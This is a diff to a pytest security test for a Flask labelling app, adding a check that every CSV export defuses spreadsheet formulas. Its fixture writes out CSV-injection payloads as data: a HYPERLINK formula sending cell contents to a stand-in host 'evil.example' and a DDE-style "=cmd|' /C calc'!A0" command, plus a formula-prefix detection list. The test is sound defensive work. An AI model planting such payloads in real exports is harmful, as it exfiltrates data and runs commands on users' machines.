@@ -7,15 +7,25 @@ security section.
 
 from __future__ import annotations
 
+import csv
+import io
+import re
+
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 
-from tests.factory import PASSWORD
+from ndcg_labeler.extensions import db
+from ndcg_labeler.models import Query, TestSet
+from ndcg_labeler.services import runs as run_service
+from tests.factory import PASSWORD, build, judge, trec
 from tests.security.world import World, make_world
 
 # ?page= values a visitor may type; before the fix the two past 2**63 answered 500.
 PAGES = ("-5", "0", "abc", "1e3", str(2**63), str(10**20))
+# Spreadsheets run a cell that starts with one of these (formats.safe_cell's rule).
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"[-+]?\d+(\.\d*)?([eE][-+]?\d+)?")
 
 
 @pytest.fixture
@@ -93,3 +103,60 @@ def test_json_within_the_depth_and_brackets_in_strings_still_parse(world: World)
     malformed = _gate(client, world.tokens["admin"], world.sets["A"].test_set_id, "{nope")
     assert malformed.status_code == 400
     assert "not valid JSON" in malformed.get_json()["detail"]
+
+
+def _hostile_set(app: Flask) -> tuple[int, list[int]]:
+    """A set whose qids, docids, query text, run names and note all start like formulas."""
+    built = build(app, "=Hostile", pool={"=q1": ["@d1", "+d2"], "-q2": ["=d3"]})
+    with app.app_context():
+        for query in db.session.query(Query).filter_by(test_set_id=built.test_set_id):
+            query.text = '=HYPERLINK("http://evil.example/?"&A1, "click")'
+        db.session.commit()
+        test_set = db.session.get_one(TestSet, built.test_set_id)
+        run_ids = [
+            run_service.upload_run(
+                test_set, io.BytesIO(trec({"=q1": order, "-q2": ["=d3"]})), "r.trec", name, None
+            ).id
+            for name, order in (("=cmd|' /C calc'!A0", ["@d1", "+d2"]), ("@two", ["+d2", "@d1"]))
+        ]
+    judge(app, built.test_set_id, "=q1", "@d1", "admin", grade=2, note="=1+1")
+    return built.test_set_id, run_ids
+
+
+def _csv_urls(app: Flask, set_id: int, run_id: int) -> list[str]:
+    """Every route of the URL map that answers CSV, filled for the hostile set."""
+    with app.app_context():
+        query_id = db.session.query(Query.id).filter_by(test_set_id=set_id, qid="=q1").scalar()
+    values = {"test_set_id": set_id, "run_id": run_id, "query_id": query_id, "fmt": "csv"}
+    urls = []
+    for rule in app.url_map.iter_rules():
+        if "GET" not in rule.methods or not (rule.rule.endswith(".csv") or "fmt" in rule.arguments):
+            continue
+        path = rule.rule
+        for name in rule.arguments:
+            path = re.sub(rf"<(?:[a-z]+:)?{name}>", str(values[name]), path)
+        urls.append(path)
+    return sorted(urls)
+
+
+def test_every_csv_export_defuses_formulas(world: World, request: pytest.FixtureRequest) -> None:
+    app = world.app
+    set_id, run_ids = _hostile_set(app)
+    client = _login(app, "admin")
+    urls = _csv_urls(app, set_id, run_ids[0])
+    # The exports of the dashboard, the drill-down, the comparison, the team and the audit.
+    assert len(urls) == 7, urls
+    compare = "?" + "&".join(f"run={run_id}" for run_id in run_ids)
+    dangerous = []
+    cells = 0
+    for url in urls:
+        response = client.get(url + (compare if url.endswith("compare.csv") else ""))
+        assert response.status_code == 200, url
+        assert response.mimetype == "text/csv", url
+        for row in csv.reader(io.StringIO(response.get_data(as_text=True))):
+            for cell in row:
+                cells += 1
+                if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell):
+                    dangerous.append(f"{url}: {cell!r}")
+    assert not dangerous, "\n".join(dangerous)
+    _finding(request, f"CSV exports ({len(urls)} routes, {cells} cells, none runs)")
